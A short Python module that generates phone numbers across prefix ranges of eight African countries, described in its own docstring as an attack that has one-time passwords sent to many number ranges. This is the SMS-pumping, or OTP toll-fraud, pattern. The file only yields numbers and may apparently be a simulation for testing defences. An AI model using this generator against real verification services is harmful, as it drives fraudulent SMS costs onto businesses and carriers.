"""Makes an attack that has one-time passwords sent to many ranges of numbers."""

from collections.abc import Iterator

from heliograph.text import parse_phone

# how numbers of eight countries begin, and how long they are
COUNTRIES = {
    "23320": 12,
    "25471": 12,
    "234803": 13,
    "25677": 12,
    "25571": 12,
    "27721": 11,
    "25078": 12,
    "26097": 12,
}


RANGES = 200


def attack(each: int, first: int = 0) -> Iterator[str]:
    """Asks for so many numbers in each of 200 ranges, of eight countries in turn."""
    for place in range(first, first + each):
        for number in range(RANGES):
            start, length = list(COUNTRIES.items())[number % len(COUNTRIES)]
            phone = f"{start}{number // len(COUNTRIES):0{8 - len(start)}d}{place:0{length - 8}d}"
            assert parse_phone(phone) is not None, phone
            yield phone
